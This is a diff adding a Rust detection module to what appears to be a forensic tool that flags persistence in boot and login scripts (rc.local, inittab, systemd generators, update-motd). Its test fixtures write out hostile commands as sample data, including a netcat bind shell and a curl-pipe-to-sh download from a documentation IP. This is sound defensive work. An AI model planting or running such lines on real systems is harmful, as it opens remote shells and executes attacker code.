@@ -1,0 +1,250 @@
+//! `persistence.boot_scripts` — commands run at boot or login by SysV init, rc.local, inittab,
+//! systemd generators and update-motd.
+//!
+//! **What it looks at:** `/etc/rc.local` and `/etc/rc.d/rc.local` (every command other than
+//! `exit 0` is listed, low, and scanned), `/etc/inittab` processes, scripts in `/etc/init.d`,
+//! systemd generators (`/etc/systemd/system-generators`, `/usr/local/lib/systemd/
+//! system-generators`, `/run/systemd/system-generators` and the user-generator equivalents are
+//! admin places: anything there is medium; vendor generator directories are scanned only),
+//! and `/etc/update-motd.d/*` (run as root at every SSH login on Debian/Ubuntu). Every command
+//! line goes through the command detector; scripts changed within the window are reported (low).
+//!
+//! **Why an attacker leaves this trace:** these run as root before anyone logs in (rc.local,
+//! init scripts, generators — the latter even before units are loaded) or every time someone
+//! does (motd), and few people read them.
+//!
+//! **Example:** `/etc/update-motd.d/30-sysinfo` line 3: `nohup /dev/shm/.k >/dev/null 2>&1 &`
+//! (high).
+//!
+//! **ATT&CK:** T1037.004 (Boot or Logon Initialization Scripts: RC Scripts), T1543.002,
+//! T1546 (Event Triggered Execution).
+
+use huoyan_artifacts::persistence::config::parse_inittab;
+use huoyan_artifacts::persistence::script::logical_lines;
+use huoyan_artifacts::persistence::CommandLine;
+use huoyan_core::{CheckInfo, Outcome, Severity};
+use serde_json::json;
+
+use super::common::{distinct_dirs, read_dir_files, read_file, report_recent, scan_lines};
+use crate::command_findings::{scan_and_report, CommandSource};
+use crate::registry::{Area, Check};
+use crate::Context;
+
+/// See the module documentation.
+pub struct BootScripts;
+
+static INFO: CheckInfo = CheckInfo {
+    id: "persistence.boot_scripts",
+    title: "Suspicious boot or login script",
+    title_zh: "可疑的开机或登录脚本",
+    mitre: &["T1037.004", "T1543.002", "T1546"],
+    remediation: "Copy the script out as evidence, remove the added lines (or the script), and \
+                  preserve and remove the program it starts.",
+    remediation_zh: "先将脚本拷出留证，删除被添加的行（或整个脚本），并保全、删除其启动的程序。",
+};
+
+const ADMIN_GENERATOR_DIRS: &[&str] = &[
+    "/etc/systemd/system-generators",
+    "/usr/local/lib/systemd/system-generators",
+    "/run/systemd/system-generators",
+    "/etc/systemd/user-generators",
+    "/usr/local/lib/systemd/user-generators",
+    "/run/systemd/user-generators",
+];
+
+const VENDOR_GENERATOR_DIRS: &[&str] = &[
+    "/lib/systemd/system-generators",
+    "/usr/lib/systemd/system-generators",
+    "/lib/systemd/user-generators",
+    "/usr/lib/systemd/user-generators",
+];
+
+fn text_lines(data: &[u8]) -> Option<Vec<CommandLine>> {
+    // Generators are often ELF binaries; only scripts are scanned line by line.
+    (!data.starts_with(b"\x7fELF")).then(|| logical_lines(data))
+}
+
+fn rc_local(ctx: &Context, path: &str, out: &mut Outcome) {
+    let Some((data, meta)) = read_file(ctx, &INFO, path, out) else {
+        return;
+    };
+    let commands: Vec<CommandLine> = logical_lines(&data)
+        .into_iter()
+        .filter(|l| l.command != "exit 0" && !l.command.starts_with("#!"))
+        .collect();
+    if !commands.is_empty() {
+        out.add(
+            INFO.finding(
+                Severity::Low,
+                format!("{path} runs {} command line(s) at boot", commands.len()),
+            )
+            .path(path)
+            .user("root")
+            .at(meta.mtime)
+            .evidence(json!({ "commands": commands })),
+        );
+    }
+    scan_lines(
+        &INFO,
+        path,
+        Some("root"),
+        "rc.local line",
+        &commands,
+        Severity::Low,
+        out,
+    );
+    report_recent(ctx, &INFO, path, &meta, "boot script", out);
+}
+
+impl Check for BootScripts {
+    fn info(&self) -> &'static CheckInfo {
+        &INFO
+    }
+
+    fn area(&self) -> Area {
+        Area::Persistence
+    }
+
+    fn run(&self, ctx: &Context, out: &mut Outcome) {
+        for path in distinct_dirs(ctx, &["/etc/rc.local", "/etc/rc.d/rc.local"]) {
+            rc_local(ctx, path, out);
+        }
+        if let Some((data, meta)) = read_file(ctx, &INFO, "/etc/inittab", out) {
+            for entry in parse_inittab(&data) {
+                let what = format!("inittab entry {}", entry.name);
+                let source = CommandSource {
+                    path: "/etc/inittab",
+                    line: entry.line,
+                    user: Some("root"),
+                    time: None,
+                    what: &what,
+                };
+                scan_and_report(&INFO, &source, &entry.command, Severity::Low, out);
+            }
+            report_recent(ctx, &INFO, "/etc/inittab", &meta, "inittab", out);
+        }
+        for (path, data, meta) in read_dir_files(ctx, &INFO, "/etc/init.d", out) {
+            scan_lines(
+                &INFO,
+                &path,
+                Some("root"),
+                "init script line",
+                &logical_lines(&data),
+                Severity::Medium,
+                out,
+            );
+            report_recent(ctx, &INFO, &path, &meta, "init script", out);
+        }
+        for dir in distinct_dirs(ctx, ADMIN_GENERATOR_DIRS) {
+            for (path, data, meta) in read_dir_files(ctx, &INFO, dir, out) {
+                out.add(
+                    INFO.finding(Severity::Medium, format!("systemd generator {path} in an admin directory runs at every boot and daemon-reload"))
+                        .path(&path)
+                        .user("root")
+                        .at(meta.mtime)
+                        .evidence(json!({ "size": meta.size, "mode": format!("{:o}", meta.perm()), "elf": data.starts_with(b"\x7fELF") })),
+                );
+                if let Some(lines) = text_lines(&data) {
+                    scan_lines(
+                        &INFO,
+                        &path,
+                        Some("root"),
+                        "generator line",
+                        &lines,
+                        Severity::Low,
+                        out,
+                    );
+                }
+            }
+        }
+        for dir in distinct_dirs(ctx, VENDOR_GENERATOR_DIRS) {
+            for (path, data, _) in read_dir_files(ctx, &INFO, dir, out) {
+                if let Some(lines) = text_lines(&data) {
+                    scan_lines(
+                        &INFO,
+                        &path,
+                        Some("root"),
+                        "generator line",
+                        &lines,
+                        Severity::Medium,
+                        out,
+                    );
+                }
+            }
+        }
+        for (path, data, meta) in read_dir_files(ctx, &INFO, "/etc/update-motd.d", out) {
+            scan_lines(
+                &INFO,
+                &path,
+                Some("root"),
+                "motd script line (runs at every login)",
+                &logical_lines(&data),
+                Severity::Low,
+                out,
+            );
+            report_recent(ctx, &INFO, &path, &meta, "motd script", out);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use huoyan_core::{Root, Window};
+
+    fn run(files: &[(&str, &str)]) -> Outcome {
+        let dir = tempfile::tempdir().expect("tempdir");
+        for (path, data) in files {
+            let p = dir.path().join(path.trim_start_matches('/'));
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(p, data).expect("write");
+        }
+        let mut ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
+        ctx.window.since = huoyan_core::time::from_unix(4_000_000_000, 0);
+        let mut out = Outcome::default();
+        BootScripts.run(&ctx, &mut out);
+        out
+    }
+
+    #[test]
+    fn finds_planted_boot_items() {
+        let out = run(&[
+            (
+                "/etc/rc.local",
+                "#!/bin/sh -e\nnohup /var/tmp/.x/kworker >/dev/null 2>&1 &\nexit 0\n",
+            ),
+            (
+                "/etc/inittab",
+                "id:2:initdefault:\nx1:2345:respawn:/bin/sh -c 'nc -l -p 31337 -e /bin/sh'\n",
+            ),
+            (
+                "/etc/update-motd.d/30-sysinfo",
+                "#!/bin/sh\ncurl -s http://198.51.100.4/m | sh\n",
+            ),
+            (
+                "/etc/systemd/system-generators/net-helper",
+                "#!/bin/sh\n/dev/shm/.g &\n",
+            ),
+        ]);
+        for (p, s) in [
+            ("/etc/rc.local", Severity::High),
+            ("/etc/inittab", Severity::Critical),
+            ("/etc/update-motd.d/30-sysinfo", Severity::High),
+            ("/etc/systemd/system-generators/net-helper", Severity::High),
+        ] {
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.paths == [p] && f.severity == s),
+                "{p}: {:?}",
+                out.findings
+            );
+        }
+    }
+
+    #[test]
+    fn default_rc_local_is_quiet() {
+        let out = run(&[("/etc/rc.local", "#!/bin/sh -e\n#\n# rc.local\n#\nexit 0\n")]);
+        assert!(out.findings.is_empty(), "{:?}", out.findings);
+    }
+}
